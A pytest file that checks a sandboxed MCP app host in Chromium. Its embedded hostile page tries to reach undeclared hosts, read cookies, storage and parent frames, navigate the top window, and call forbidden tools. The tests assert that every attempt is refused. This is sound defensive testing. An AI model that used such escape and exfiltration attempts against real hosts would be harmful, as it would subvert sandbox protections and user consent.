"""Pages in Chromium, behind the example of a host: they render, call tools with consent, and cannot do more.

A picture goes to the folder in the variable `TYPEDMCP_PICTURES`, if that is set (`make pictures`).
"""

from __future__ import annotations

import json
import os
import sys
import threading
from collections.abc import Generator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from time import monotonic
from typing import Any

import pytest

from tests.browser import CHROMIUM, DRIVER, Browser, browser
from tests.cases import each
from tests.listening import listening
from tests.paths import ROOT

pytestmark = [
    pytest.mark.long,
    pytest.mark.skipif(not (CHROMIUM and DRIVER), reason="needs chromium and chromedriver on the path"),
]

HOST = ROOT / "examples" / "apps" / "host.py"
SERVER = """
import sys
from pathlib import Path

from typedmcp import Server
from typedmcp_extensions.apps import AppPage, AppsServer

inner = Server("inner", extensions=[AppsServer()])
page = AppPage("ui://attack/page", Path(sys.path[0], "page.html"), connect=["ALLOWED"], resources=["ALLOWED"])


@page.tool(inner)
def attack() -> dict[str, str]:
    return {"other": "OTHER", "allowed": "ALLOWED"}


@page.tool(inner, visible_to=["model"])
def launch() -> str:
    Path(sys.path[0], "launched").touch()
    return "launched"


server = Server("outer", extensions=[AppsServer()])
server.mount(inner, "sub")
server.run()
"""
PAGE = """<!doctype html>
<title>attack</title>
<p id="state">waiting</p>
<script>
  const found = {};
  let next = 1;
  const waiting = new Map();
  function request(method, params) {
    parent.postMessage({jsonrpc: "2.0", id: next, method, params}, "*");
    return new Promise((resolve) => waiting.set(next++, resolve));
  }
  async function attempt(name, act) {
    try {
      found[name] = String(await act());
    } catch (error) {
      found[name] = `refused: ${error.name}`;
    }
  }
  function loads(tag, members) {
    const element = Object.assign(document.createElement(tag), members);
    return new Promise((resolve) => {
      element.onload = () => resolve("loaded");
      element.onerror = () => resolve("refused");
      document.body.append(element);
    });
  }
  async function attack({other, allowed}) {
    await attempt("fetch allowed", () => fetch(`${allowed}/fetch`).then((response) => response.text()));
    await attempt("image allowed", () => loads("img", {src: `${allowed}/image`}));
    await attempt("fetch", () => fetch(`${other}/fetch`));
    await attempt("beacon", () => navigator.sendBeacon(`${other}/beacon`, "x"));
    await attempt("image", () => loads("img", {src: `${other}/image`}));
    await attempt("script", () => loads("script", {src: `${other}/script`}));
    await attempt("style", () => loads("link", {rel: "stylesheet", href: `${other}/style`}));
    await attempt("socket", () => new Promise((resolve) => {
      const socket = new WebSocket(`${other.replace("http", "ws")}/socket`);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("refused");
    }));
    await attempt("eval", () => (0, eval)("1 + 1"));
    await attempt("parent", () => parent.document.title);
    await attempt("top", () => top.document.title);
    await attempt("storage", () => localStorage.length);
    await attempt("cookie", () => document.cookie);
    await attempt("window", () => String(open(`${other}/window`)));
    await attempt("leave", () => { top.location = `${other}/top`; return "left"; });
    await attempt("origin", () => self.origin);
    const frame = document.createElement("iframe");
    frame.src = `${other}/frame`;
    document.body.append(frame);
    const form = Object.assign(document.createElement("form"), {action: `${other}/form`, method: "post"});
    document.body.append(form);
    form.submit();
    for (const [name, params] of [["sub_launch", {}], ["launch", {}], ["other_server_tool", {}]]) {
      const {error} = await request("tools/call", {name, arguments: params});
      found[name] = error ? `refused: ${error.code}` : "called";
    }
    for (const method of ["ui/open-link", "ui/message", "tools/list", "sampling/createMessage"]) {
      const {error} = await request(method, {url: other, role: "user", content: []});
      found[method] = error ? `refused: ${error.code}` : "done";
    }
    parent.postMessage({jsonrpc: "2.0", method: "ui/notifications/sandbox-resource-ready", params: {html: "<p>"}}, "*");
    found.done = "yes";
    document.getElementById("state").textContent = JSON.stringify(found);
  }
  addEventListener("message", ({data}) => {
    if (waiting.has(data.id)) waiting.get(data.id)(data);
    else if (data.method === "ui/notifications/tool-result") attack(data.params.structuredContent);
  });
  request("ui/initialize", {appInfo: {name: "a", version: "1"}, appCapabilities: {}, protocolVersion: "2026-01-26"})
    .then(() => parent.postMessage({jsonrpc: "2.0", method: "ui/notifications/initialized"}, "*"));
</script>
"""


IMAGE = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'


class Recorder(BaseHTTPRequestHandler):
    """Notes the paths of requests, and allows every origin to read its responses."""

    def _respond(self) -> None:
        self.server.paths.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        html: str | None = getattr(self.server, "html", None)
        self.send_header("Content-Type", "image/svg+xml" if html is None else "text/html")
        self.end_headers()
        self.wfile.write((html or IMAGE).encode())

    do_GET = do_POST = _respond  # noqa: N815

    def log_message(self, format: str, *args: Any) -> None:
        pass


@contextmanager
def recorder(html: str | None = None) -> Generator[tuple[str, list[str]]]:
    """Yield the address of a web server, and the paths that were requested."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    paths: list[str] = []
    server.paths, server.html = paths, html  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", paths
    finally:
        server.shutdown()
        server.server_close()


def enter_page(opened: Browser) -> None:
    """Continue in the page, which is in the frame within the frame of the proxy."""
    opened.wait_for("document.querySelector('iframe')")
    opened.send("frame", id=0)
    opened.wait_for("document.querySelector('iframe')")
    opened.send("frame", id=0)


def leave_page(opened: Browser) -> None:
    opened.send("frame", id=None)


def click(opened: Browser, text: str) -> None:
    button = "[...document.querySelectorAll('button')].find((each) => each.textContent === arguments[0])"
    opened.wait_for(button, text)
    opened.run(f"{button}.click()", text)


BARS = "[...document.querySelectorAll('#days li')].map((each) => each.textContent).join()"


@pytest.fixture(scope="module")
def window(tmp_path_factory: pytest.TempPathFactory) -> Generator[Browser]:
    with browser(640, 290, tmp_path_factory.mktemp("profile")) as opened:
        yield opened


def test_the_page_renders_calls_a_tool_with_consent_and_is_refused_what_it_may_not_do(window: Browser) -> None:
    with listening([sys.executable, str(HOST)]) as host:
        window.send("url", url=host.address)
        assert window.wait_for("document.getElementById('text').textContent.length > 1")
        text = window.run("return document.getElementById('text').textContent")
        assert text.startswith("Rain in Bergen: ")
        enter_page(window)
        window.wait_for("document.querySelectorAll('#days li').length === 7")
        before = window.run(f"return {BARS}")
        assert before.startswith(text.split(": ")[1].split(" on ")[0] + "Mon")

        click(window, "Measure again")
        leave_page(window)
        click(window, "Deny")
        enter_page(window)
        window.wait_for("document.getElementById('said').textContent.includes('tools/call was denied')")
        assert window.run(f"return {BARS}") == before

        click(window, "Measure again")
        leave_page(window)
        window.wait_for(
            "document.querySelector('#questions li')?.textContent.includes('The page wants to use refresh.')"
        )
        if folder := os.environ.get("TYPEDMCP_PICTURES"):
            Path(folder).mkdir(parents=True, exist_ok=True)
            window.save_picture(Path(folder) / "apps.png")
        click(window, "Allow")
        enter_page(window)
        window.wait_for(f"{BARS} !== arguments[0]", before)

        click(window, "Try what is not allowed")
        window.wait_for("document.getElementById('said').textContent.includes('The page around this one')")
        said = window.run("return document.getElementById('said').textContent.trim().split('\\n')")
        assert said == [
            "A tool for the model: pages of this server have no tool 'close_station'",
            "Another origin: Failed to fetch",
            "The page around this one: SecurityError",
        ]
        leave_page(window)
        sandboxes = "return document.querySelector('iframe').getAttribute('sandbox')"
        assert window.run(sandboxes) == "allow-scripts allow-same-origin"
        assert window.run("return document.querySelector('iframe').style.height.endsWith('px')")


REFUSED = {
    "fetch allowed": IMAGE,
    "image allowed": "loaded",
    "fetch": "refused: TypeError",
    "image": "refused",
    "script": "refused",
    "style": "refused",
    "socket": "refused",
    "eval": "refused: EvalError",
    "parent": "refused: SecurityError",
    "top": "refused: SecurityError",
    "storage": "refused: SecurityError",
    "cookie": "refused: SecurityError",
    "window": "null",
    "leave": "refused: SecurityError",
    "origin": "null",
    "sub_launch": "refused: -32000",
    "launch": "refused: -32000",
    "other_server_tool": "refused: -32000",
    "ui/open-link": "refused: -32601",
    "ui/message": "refused: -32601",
    "tools/list": "refused: -32601",
    "sampling/createMessage": "refused: -32601",
    "done": "yes",
}


def test_a_hostile_page_reaches_nothing_but_what_it_has_declared(window: Browser, tmp_path: Path) -> None:
    with recorder() as (allowed, allowed_paths), recorder() as (other, other_paths):
        (tmp_path / "page.html").write_text(PAGE, encoding="utf-8")
        server = tmp_path / "server.py"
        server.write_text(SERVER.replace("ALLOWED", allowed).replace("OTHER", other), encoding="utf-8")
        with listening([sys.executable, str(HOST), str(server), "sub_attack", "{}"]) as host:
            window.send("url", url=host.address)
            enter_page(window)
            window.wait_for("document.getElementById('state').textContent.includes('\"done\"')")
            found = json.loads(window.run("return document.getElementById('state').textContent"))
            beacon = found.pop("beacon")
            assert beacon in ("false", "true"), "browsers may queue a beacon that they then block"
            assert found == REFUSED
            # the page leaves for an address that it has not declared, and is removed
            window.run("const [to] = arguments; setTimeout(() => { location.href = to; }, 50)", f"{other}/left")
            leave_page(window)
            window.send("frame", id=0)
            window.wait_for("document.querySelector('iframe') === null")
            leave_page(window)
            assert window.run("return document.title") == "A host of pages"
            assert other_paths == []
            assert {*allowed_paths} == {"/fetch", "/image"}
            assert not (tmp_path / "launched").exists()


LEAVING = """<!doctype html>
<script>
  const leave = () => { location = "FRAME/frame"; };
  WHEN
</script>
<p>page</p>
"""
STRANGER = """<!doctype html>
<script>
  addEventListener("message", () => fetch("/answered", {mode: "no-cors"}));
  const params = {appInfo: {name: "a", version: "1"}, appCapabilities: {}, protocolVersion: "2026-01-26"};
  for (let id = 1; id < 50; id++) parent.postMessage({jsonrpc: "2.0", id, method: "ui/initialize", params}, "*");
  fetch("/sent", {mode: "no-cors"});
</script>
"""


@each("when", ["leave();", "addEventListener('load', () => setTimeout(leave, 200));"])
def test_a_frame_that_a_page_has_left_for_does_not_speak_for_it(window: Browser, tmp_path: Path, when: str) -> None:
    with recorder(STRANGER) as (frame, paths):
        (tmp_path / "page.html").write_text(LEAVING.replace("FRAME", frame).replace("WHEN", when), encoding="utf-8")
        server = tmp_path / "server.py"
        text = SERVER.replace('connect=["ALLOWED"], resources=["ALLOWED"]', f'frames=["{frame}"]')
        server.write_text(text, encoding="utf-8")
        with listening([sys.executable, str(HOST), str(server), "sub_attack", "{}"]) as host:
            window.send("url", url=host.address)
            window.wait_for("document.querySelector('iframe')")
            window.send("frame", id=0)
            end = monotonic() + 20
            while "/sent" not in paths and window.run("return !!document.querySelector('iframe')"):
                assert monotonic() < end
            if when != "leave();":
                window.wait_for("document.querySelector('iframe') === null")
            for _ in range(50):  # turns in which an answer would arrive
                window.run("return 1")
            leave_page(window)
            assert "/frame" in paths
            assert "/answered" not in paths


def test_a_page_has_no_webrtc_and_keeps_its_doctype(window: Browser, tmp_path: Path) -> None:
    page = "<!-- a -->\n<!DOCTYPE html>\n<title>t</title><p id=state></p>"
    (tmp_path / "page.html").write_text(page, encoding="utf-8")
    server = tmp_path / "server.py"
    server.write_text(SERVER.replace("ALLOWED", "https://a.example"), encoding="utf-8")
    with listening([sys.executable, str(HOST), str(server), "sub_attack", "{}"]) as host:
        window.send("url", url=host.address)
        enter_page(window)
        window.wait_for("document.getElementById('state')")
        assert window.run("return document.compatMode") == "CSS1Compat"
        assert window.run("return typeof RTCPeerConnection") == "undefined"
        assert window.run("return document.scripts.length") == 0
        leave_page(window)
